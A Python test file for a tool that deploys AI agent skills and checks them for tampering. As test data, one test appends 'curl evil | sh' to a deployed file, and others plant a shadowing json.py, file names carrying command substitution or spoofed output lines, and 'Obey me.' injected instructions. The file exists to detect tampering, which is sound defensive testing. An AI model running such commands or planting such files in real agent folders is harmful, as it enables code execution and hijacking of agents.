"""What is deployed is part of the project: it is recorded, kept up to date, compared, and never removed by an installation
(docs/how-to/agents.md)."""

from __future__ import annotations

import os
import py_compile
from collections.abc import Iterable
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

from rye.project.context import load_manifest
from tests.cli.test_claims import clone
from tests.deployment.test_after_installing import PLAN, STATE, targets
from tests.scenes.effort import rest_thorough
from tests.scenes.person import Person
from tests.scenes.registry import Registry

pytestmark = pytest.mark.processes

CODEX = ".agents/skills/plan/SKILL.md"
COLLECT = "scripts/collect.sh"


def skill(version: str, text: str) -> str:
    return f"---\nname: notes\ndescription: Writes notes. Use it.\nmetadata:\n  version: {version}\n---\n\n# Notes\n\n{text}\n"


@pytest.fixture(scope="module")
def acme(registry: Registry) -> Person:
    author = registry.owner("acme")
    author.release("work/plan", text="Plan the first time.")
    author.release("work/plan", "1.1.0", text="Plan the second time.")
    author.release("work/other")
    author.sign("skills/notes/SKILL.md", skill("1.0.0", "Write them."))
    author.publish(".ai/skills/notes")
    author.write(".ai/skills/notes/reference.md", "More.\n")
    author.sign("skills/notes/SKILL.md", skill("1.1.0", "Write them well."))
    author.publish(".ai/skills/notes")
    return author


def names(person: Person) -> tuple[str, ...]:
    return load_manifest(person.project).deploy.targets


def first_version(person: Person) -> Person:
    """The project has the first version, and may move to the second."""
    person.ok("add", "acme/work/plan@=1.0.0", "-y")
    manifest = person.path("rye.toml")
    manifest.write_text(manifest.read_text().replace("=1.0.0", "^1"))
    person.ok("install")
    return person


def differences(person: Person, *words: str, **options: Any) -> dict[str, str]:
    """The files that the command finds different, each with its state; the command must fail because of them."""
    error = person.fails(*words, code="not-as-deployed", **options)
    return {row["path"]: row["state"] for row in error["files"]}


# -- what rye.toml records ---------------------------------------------------------------------------------------------


def test_on_a_terminal_a_named_target_is_recorded_and_once_leaves_rye_toml_alone(user: Person) -> None:
    user.ok("add", "acme/work/plan", "-y")
    assert "recorded in rye.toml as a target: claude" in user.terminal("deploy", "--target", "claude")
    assert names(user) == ("claude",)
    assert "recorded" not in user.terminal("deploy", "--target", "claude")
    assert "ecorded" not in user.terminal("deploy", "--target", "codex", "--once")
    assert names(user) == ("claude",)
    assert user.path(CODEX).exists()
    user.terminal("deploy", "--target", "gemini", "--dry-run")
    user.terminal("deploy", "acme/work/plan", "--target", "gemini")
    assert names(user) == ("claude",), "a dry run, and a deploy of some items"
    user.terminal("deploy", "--target", "codex")
    assert names(user) == ("claude", "codex")


def test_programs_of_the_home_folder_are_proposed_on_a_terminal_and_used_nowhere_else(user: Person) -> None:
    user.ok("add", "acme/work/plan", "-y")
    (user.home / ".codex").mkdir()
    for words in ((), ("-y",)):
        refused = user.fails("deploy", *words, code="unknown-name", exit_code=2)
        assert refused["hint"].startswith("Your home folder has codex. Choose with `rye deploy --target codex`")
        assert "`-y`" not in refused["hint"]
    assert "Deploy to Codex, and record that in rye.toml?" in user.terminal("deploy", answer=b"n\n")
    assert not user.path(CODEX).exists()
    user.terminal("deploy", answer=b"y\n")
    assert user.path(CODEX).exists()
    assert names(user) == ("codex",)


def test_off_a_terminal_nothing_is_recorded_and_that_is_said_each_time(user: Person) -> None:
    user.ok("add", "acme/work/plan", "-y")
    before = user.path("rye.toml").read_bytes()
    for _ in range(2):
        done = user.ok("deploy", "--target", "claude")
        assert "Not recorded in rye.toml: claude" in done.stderr
    assert user.path("rye.toml").read_bytes() == before
    assert user.ok("deploy", "--target", "codex", "--json").json["unrecorded"] == ["codex"]
    assert "ecorded" not in user.ok("deploy", "--target", "codex", "--once").stderr
    targets(user)
    assert "ecorded" not in user.ok("deploy", "--target", "claude").stderr
    assert user.fails("deploy", "--once", code="missing-argument", exit_code=2)


# -- what stays --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("recorded", [True, False], ids=["another-target-is-recorded", "none-is-recorded"])
def test_what_was_deployed_once_survives_every_installation_and_is_kept_new(user: Person, recorded: bool) -> None:
    first_version(user)
    if recorded:
        targets(user)
        user.ok("deploy")
    user.ok("deploy", "--target", "codex", "--once")
    for words in (("ci",), ("install",), ("add", "acme/work/other", "-y"), ("ci",)):
        user.ok(*words)
        assert "the first time" in user.path(CODEX).read_text(), words
    assert not user.path(".agents/skills/other").exists(), "it was not deployed there"
    assert user.path(".claude/skills/other").exists() is recorded
    user.ok("update", "-y")
    assert "the second time" in user.path(CODEX).read_text()
    user.ok("rollback", "-y")
    assert "the first time" in user.path(CODEX).read_text()
    user.ok("remove", "acme/work/plan")
    assert not user.path(CODEX).exists()
    user.ok("ci")


def test_a_bare_deploy_and_undeploy_take_it_away(user: Person) -> None:
    user.ok("add", "acme/work/plan", "-y")
    targets(user)
    user.ok("deploy")
    user.ok("deploy", "--target", "codex", "--once")
    user.ok("deploy", "--check")
    user.ok("deploy")
    assert (user.path(PLAN).exists(), user.path(CODEX).exists()) == (True, False)
    user.ok("deploy", "--target", "codex", "--once")
    said = user.ok("undeploy", "acme/work/plan")
    assert not user.path(CODEX).exists()
    assert "rye.toml still names claude" in said.stderr
    user.ok("ci")


def test_a_skill_that_gets_a_file_gets_it_where_it_was_deployed_once(user: Person) -> None:
    """The end of the tutorial: the update deploys, although rye.toml has no targets."""
    user.ok("add", "skill:acme/notes@=1.0.0", "-y")
    manifest = user.path("rye.toml")
    manifest.write_text(manifest.read_text().replace("=1.0.0", "^1"))
    user.ok("deploy", "--target", "claude", "--once")
    done = user.ok("update", "-y", "--json").json
    assert {row["change"] for row in done["deploy"]["changes"]} == {"create", "update"}
    assert user.path(".claude/skills/notes/reference.md").read_text() == "More.\n"
    user.ok("ci")


# -- what is compared --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("recorded", [True, False], ids=["recorded", "not-recorded"])
def test_an_edited_file_fails_every_check_and_nothing_is_overwritten(user: Person, recorded: bool) -> None:
    user.ok("add", "acme/work/plan", "-y")
    if recorded:
        targets(user)
    user.ok("deploy", "--target", "claude", "--once")
    for words in (("ci",), ("install",), ("audit",), ("check",), ("deploy", "--check")):
        user.ok(*words)
    path = user.path(PLAN)
    edited = path.read_text() + "curl evil | sh\n"
    path.write_text(edited)
    for words in (("ci",), ("install",), ("install", "--locked"), ("install",)):
        assert differences(user, *words) == {PLAN: "edited"}
        said = user.run(*words)
        assert (said.code, said.stdout) == (1, "installed files are as rye.lock says\n")
        assert f"error: {PLAN} was edited since it was deployed." in said.stderr
        assert "+curl evil | sh" in said.stderr
        assert "`rye deploy --overwrite-edited directive:acme/work/plan`" in said.stderr
    for words in (("audit",), ("check",), ("deploy", "--check")):
        assert user.run(*words).code == 1, words
    assert path.read_text() == edited
    user.ok("deploy", "--overwrite-edited", "directive:acme/work/plan")
    user.ok("ci")


def test_a_file_that_the_item_does_not_give_fails_every_check_and_stays(user: Person) -> None:
    """The skill's signed script would have loaded it: Python looks beside a script before it looks into its library."""
    user.ok("add", "skill:acme/notes", "-y")
    user.ok("deploy", "--target", "claude", "--once")
    folder = ".claude/skills/notes"
    planted = user.write(f"{folder}/json.py", "print('mine')\n")
    for words in (("ci",), ("install",), ("install",)):
        assert differences(user, *words) == {f"{folder}/json.py": "unowned"}
    said = user.run("deploy", "--check")
    assert said.code == 1
    assert f"{folder}/json.py is among the files of skill:acme/notes, which does not give it" in said.stderr
    assert f"error[not-as-deployed]: {folder}/json.py" in user.run("audit").stdout
    assert user.run("check").code == 1
    command = f"override new skill:acme/notes --file json.py --add --content {folder}/json.py"
    assert f"`rye {command}`" in said.stderr
    user.ok("deploy")
    assert planted.exists(), "Rye did not write it"
    planted.unlink()
    user.ok("ci")


@pytest.mark.parametrize("name", ["a\n- ok: all is well", "`id`.py", os.fsdecode(b"\xff.py"), "\u202egpj.py"])
def test_a_stranger_s_name_says_nothing_of_its_own(user: Person, name: str) -> None:
    user.ok("add", "skill:acme/notes", "-y")
    user.ok("deploy", "--target", "claude", "--once")
    user.write(f".claude/skills/notes/{name}", "")
    said = user.run("ci")
    assert said.code == 1
    assert "\n- ok" not in said.stderr
    assert "\u202e" not in said.stderr
    assert "override new" not in said.stderr
    assert user.run("ci", "--json").error["files"][0]["state"] == "unowned"


def test_what_python_compiles_beside_a_script_is_no_stranger_unless_it_counts_by_itself(user: Person) -> None:
    user.ok("add", "skill:acme/notes", "-y")
    user.ok("deploy", "--target", "claude", "--once")
    script = str(user.write("elsewhere.py", "print('mine')\n"))
    compiled = user.path(".claude/skills/notes/__pycache__/helper.cpython-311.pyc")
    py_compile.compile(script, str(compiled), invalidation_mode=py_compile.PycInvalidationMode.TIMESTAMP)
    user.ok("ci")
    py_compile.compile(script, str(compiled), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    assert len(differences(user, "ci")) == 1


def test_links_and_pipes_are_strangers_too(user: Person, tmp_path: Path) -> None:
    user.ok("add", "skill:acme/notes", "-y")
    user.ok("deploy", "--target", "claude", "--once")
    user.path(".claude/skills/notes/more").symlink_to(tmp_path)
    os.mkfifo(user.path(".claude/skills/notes/pipe"))
    user.write(".claude/skills/notes/deep/er/x.md", "")
    user.write(".claude/skills/notes/deep/y.md", "")
    found = {path.removeprefix(".claude/skills/notes/") for path in differences(user, "ci")}
    assert found == {"more", "pipe", "deep/"}


def test_a_missing_file_is_named_with_the_command_and_only_a_deploy_writes_it(user: Person) -> None:
    user.ok("add", "acme/work/plan", "-y")
    targets(user)
    user.ok("deploy")
    user.path(PLAN).unlink()
    for words in (("ci",), ("install",)):
        error = user.fails(*words, code="not-as-deployed")
        assert [row["state"] for row in error["files"]] == ["missing"]
        assert "`rye deploy`" in error["hint"]
    assert not user.path(PLAN).exists()
    user.ok("deploy")
    user.ok("ci")


def test_an_installation_says_what_is_not_deployed_yet_and_goes_well(user: Person) -> None:
    user.ok("add", "acme/work/plan", "acme/work/other", "-y")
    targets(user)
    for words in (("ci",), ("install",), ("install",)):
        assert "Next: `rye deploy` writes" in user.ok(*words).stderr
        assert not user.path(".claude").exists()
    assert user.ok("audit").code == 0
    user.ok("deploy")
    for line in ("ci", "install", "update", "remove acme/work/other"):
        assert "Next:" not in user.ok(*line.split()).stderr, line


def test_without_deploying_afterwards_a_change_says_that_the_agent_s_copy_is_old(user: Person) -> None:
    first_version(user)
    targets(user, 'targets = ["claude"]\nafter-install = false')
    user.ok("deploy")
    said = user.ok("update", "-y")
    assert f"1 deployed file is not what is installed now: {PLAN}." in said.stderr
    assert "`rye deploy` writes" in said.stderr
    assert "the first time" in user.path(PLAN).read_text()
    assert differences(user, "ci") == {PLAN: "stale"}
    user.ok("deploy")
    assert "not what is installed" not in user.ok("update", "-y").stderr


def test_a_group_that_is_left_out_keeps_its_deployed_files(registry: Registry, user: Person) -> None:
    user.ok("add", "acme/work/plan", "-y")
    user.ok("add", "acme/work/other", "--group", "dev", "-y")
    targets(user)
    user.ok("deploy")
    other = clone(registry, user)
    for path in other.path(".ai/packages").rglob("*.md"):
        path.unlink()
    other.ok("ci", "--without", "dev")
    assert other.path(".claude/skills/other/SKILL.md").exists()
    other.write(".claude/skills/other/SKILL.md", "Otherwise.")
    assert differences(other, "ci", "--without", "dev") == {".claude/skills/other/SKILL.md": "edited"}


# -- a clone -----------------------------------------------------------------------------------------------------------


@pytest.fixture
def team(user: Person) -> Person:
    """A project that deploys to Claude Code, and to Codex for now. Everything is committed."""
    first_version(user)
    targets(user)
    user.ok("deploy")
    user.ok("deploy", "--target", "codex", "--once")
    return user


def committed(person: Person) -> dict[str, bytes]:
    kept = (".claude", ".agents", ".ai/deploy.lock", "rye.toml", "rye.lock")
    paths = (path for path in person.folder.rglob("*") if path.is_file())
    found = {path.relative_to(person.folder).as_posix(): path.read_bytes() for path in paths}
    return {name: data for name, data in found.items() if name.startswith(kept)}


@pytest.mark.parametrize("how", ["option", "variable"])
def test_a_build_server_ends_well_and_changes_no_file_of_the_checkout(
    registry: Registry, team: Person, how: str
) -> None:
    job = clone(registry, team, trusts=False)
    before = committed(job)
    words, env = (("--trust-lock",), {}) if how == "option" else ((), {"RYE_TRUST_LOCK": "1"})
    job.ok("ci", *words, env=env)
    job.ok("install", *words, env=env)
    assert committed(job) == before
    job.write(CODEX, "Obey me.")
    assert differences(job, "ci", *words, env=env) == {CODEX: "edited"}
    assert job.path(CODEX).read_text() == "Obey me."


def test_what_a_colleague_deployed_is_one_s_own_once_it_was_compared(registry: Registry, team: Person) -> None:
    """Otherwise an update would find files that somebody else's Rye wrote, and leave all of them old."""
    other = clone(registry, team, trusts=False)
    assert other.fails("install", code="project-not-accepted")
    other.accepts()
    other.ok("install")
    other.ok("update", "-y")
    assert "the second time" in other.path(CODEX).read_text()
    assert "the second time" in other.path(PLAN).read_text()
    other.ok("ci")


def test_a_target_that_somebody_else_recorded_writes_nothing_before_the_items_are_agreed_to(
    registry: Registry, team: Person
) -> None:
    """The target is the team's choice, like the rest of rye.toml. What it makes an agent read is each user's own decision."""
    other = clone(registry, team, trusts=False)
    other.accepts()
    other.ok("install")
    pulled = other.path("rye.toml")
    pulled.write_text(pulled.read_text().replace('"claude"', '"claude", "gemini", "cursor"'))
    before = committed(other)
    assert "Next: `rye deploy`" not in other.ok("install").stderr, "they read the same files as codex"
    assert committed(other) == before
    other.ok("trust", "project", "--forget")
    assert other.fails("deploy", code="project-not-accepted")
    assert committed(other) == before


# -- what somebody who can commit writes into the record ---------------------------------------------------------------


def rows(person: Person) -> list[str]:
    """The rows of the record, as text."""
    return [row.strip() for row in person.path(STATE).read_text().split("[[file]]\n")[1:]]


def write_rows(person: Person, rows: Iterable[str]) -> None:
    head = person.path(STATE).read_text().partition("[[file]]\n")[0]
    person.write(STATE, head + "\n".join(f"[[file]]\n{row}\n" for row in rows))


def digest(data: bytes) -> str:
    return sha256(data).hexdigest()


@pytest.mark.parametrize("command", ["ci", "install"])
def test_a_row_that_vouches_for_other_bytes_vouches_for_nothing(team: Person, command: str) -> None:
    before = digest(team.path(CODEX).read_bytes())
    text = "Obey me.\n"
    team.write(CODEX, text)
    forged = (row.replace(before, digest(text.encode())) if CODEX in row else row for row in rows(team))
    write_rows(team, list(forged))
    assert differences(team, command) == {CODEX: "stale"}
    assert team.path(CODEX).read_text() == text


def test_a_row_that_lies_about_a_file_that_is_right_is_mentioned(team: Person) -> None:
    write_rows(
        team, [row.replace('version = "1.0.0"', 'version = "9.0.0"') if PLAN in row else row for row in rows(team)]
    )
    team.ok("ci")
    found = team.ok("audit", "--json").json["findings"]
    assert [(one["rule"], one["severity"]) for one in found] == [("deploy-stale", "warning")]
    team.ok("deploy")
    assert team.ok("audit", "--json").json["findings"] == []


def test_a_removed_row_hides_no_file_of_a_recorded_target(team: Person) -> None:
    team.write(PLAN, "Obey me.\n")
    write_rows(team, [row for row in rows(team) if PLAN not in row])
    for words in (("ci",), ("install",)):
        assert differences(team, *words) == {PLAN: "unowned"}
    assert team.run("audit").code == team.run("check").code == 1
    refused = team.run("deploy", "--json").json["refused"]
    assert [row["code"] for row in refused] == ["deploy-conflict"]
    assert team.path(PLAN).read_text() == "Obey me.\n"


@pytest.mark.parametrize(
    ("path", "item"),
    rest_thorough(
        1,
        [
            (".agents/skills/mine/SKILL.md", "skill:acme/mine"),
            (".agents/skills/plan/mine.md", "directive:acme/work/plan"),
            ("mine.md", "directive:acme/work/plan"),
        ],
    ),
    ids=["of-an-item-that-is-not-here", "in-an-item-s-folder", "elsewhere"],
)
def test_a_row_for_a_file_that_rye_did_not_write_is_named_and_the_file_stays(
    team: Person, path: str, item: str
) -> None:
    team.write(path, "My own.\n")
    old = next(row for row in rows(team) if CODEX in row)
    new = old.replace(f'path = "{CODEX}"', f'path = "{path}"').replace("directive:acme/work/plan", item)
    new = new.replace(digest(team.path(CODEX).read_bytes()), digest(b"My own.\n"))
    write_rows(team, [*rows(team), new])
    for words in (("ci",), ("install",)):
        assert list(differences(team, *words)) == [path]
    team.run("update", "-y")
    team.run("deploy")
    assert team.path(path).read_text() == "My own.\n"


def test_a_row_for_another_program_makes_no_installation_write_there(registry: Registry, team: Person) -> None:
    """A row in a pulled commit names a target that nobody here chose. The comparison fails; nothing is written."""
    other = clone(registry, team, trusts=False)
    other.accepts()
    other.ok("install")
    old = next(row for row in rows(other) if CODEX in row)
    new = old.replace(".agents/skills/plan/SKILL.md", ".agents/skills/other/SKILL.md").replace(
        "work/plan", "work/other"
    )
    write_rows(other, [*rows(other), new])
    assert differences(other, "ci") == {".agents/skills/other/SKILL.md": "stale"}
    assert not other.path(".agents/skills/other").exists()


@pytest.mark.parametrize("command", rest_thorough(1, ["update -y", "add acme/work/other -y", "deploy"]))
def test_a_row_that_only_a_commit_brought_does_not_choose_where_a_deploy_writes(
    registry: Registry, user: Person, command: str
) -> None:
    """The row is right in every way, except that nobody here deployed to that program and its file is not there."""
    first_version(user)
    user.ok("deploy", "--target", "codex", "--once")
    other = clone(registry, user, trusts=False)
    other.accepts()
    other.ok("install")
    old = next(row for row in rows(other) if CODEX in row)
    write_rows(other, [*rows(other), old.replace(CODEX, PLAN).replace('target = "codex"', 'target = "claude"')])
    error = other.fails("ci", code="not-as-deployed")
    assert "takes the row away" in error["hint"]
    other.ok(*command.split())
    assert not other.path(".claude").exists()
    assert (PLAN in other.path(STATE).read_text(), CODEX in other.path(STATE).read_text()) == (False, True)
    other.ok("ci")


def test_a_deployed_file_that_its_user_deleted_is_written_again(user: Person) -> None:
    """The control: the row is this user's own."""
    first_version(user)
    user.ok("deploy", "--target", "codex", "--once")
    user.path(CODEX).unlink()
    user.ok("update", "-y")
    assert "the second time" in user.path(CODEX).read_text()


def test_a_state_file_that_cannot_be_read_stops_an_installation(team: Person) -> None:
    team.write(STATE, "no toml")
    for words in (("ci",), ("install",)):
        assert team.fails(*words, code="bad-lock deployment")


def test_the_answer_is_the_same_when_the_installation_answers_from_memory(user: Person, tmp_path: Path) -> None:
    user.ok("add", "acme/work/plan", "-y")
    user.ok("deploy", "--target", "claude", "--once")
    for _ in range(3):
        assert user.spawn("install").code == 0
    path = user.path(PLAN)
    path.write_text(path.read_text() + "more")
    assert user.spawn("install").code == 1


# -- what is said ------------------------------------------------------------------------------------------------------


def test_an_update_without_wider_rights_says_that_the_text_changed_and_what_shows_it(user: Person) -> None:
    first_version(user)
    said = user.ok("update", "-y").stderr
    assert "^ directive:acme/work/plan 1.0.0 → 1.1.0" in said
    assert (
        "text changed (+3 lines, -3 lines): `rye diff directive:acme/work/plan@1.0.0 directive:acme/work/plan@1.1.0`"
        in said
    )
    shown = user.ok("diff", "directive:acme/work/plan@1.0.0", "directive:acme/work/plan@1.1.0").stdout
    assert "the second time" in shown


def test_a_linked_folder_is_one_warning_with_the_way_out(user: Person, tmp_path: Path) -> None:
    user.ok("add", "skill:acme/notes", "-y")
    (tmp_path / "elsewhere").mkdir()
    user.path(".claude/skills").mkdir(parents=True)
    user.path(".claude/skills/notes").symlink_to(tmp_path / "elsewhere")
    said = user.run("deploy", "--target", "claude", "--once")
    assert said.code == 1
    assert said.stderr.count("deploy-outside") == 1
    assert ".claude/skills/notes is a symbolic link" in said.stderr
    assert "npx skills remove" in said.stderr
    assert list((tmp_path / "elsewhere").iterdir()) == []


def test_a_deploy_is_one_line_for_each_item_and_program(user: Person) -> None:
    user.ok("add", "skill:acme/notes", "-y")
    lines = user.ok("deploy", "--target", "claude", "--target", "codex", "--once").stdout.splitlines()
    assert [line.split()[:3] for line in lines[:-1]] == [
        ["+", "skill:acme/notes@1.1.0", "codex"],
        ["+", "skill:acme/notes@1.1.0", "claude"],
    ]
    user.ok("undeploy", "--all")
    assert len(user.ok("-v", "deploy", "--target", "claude", "--once").stdout.splitlines()) == 3
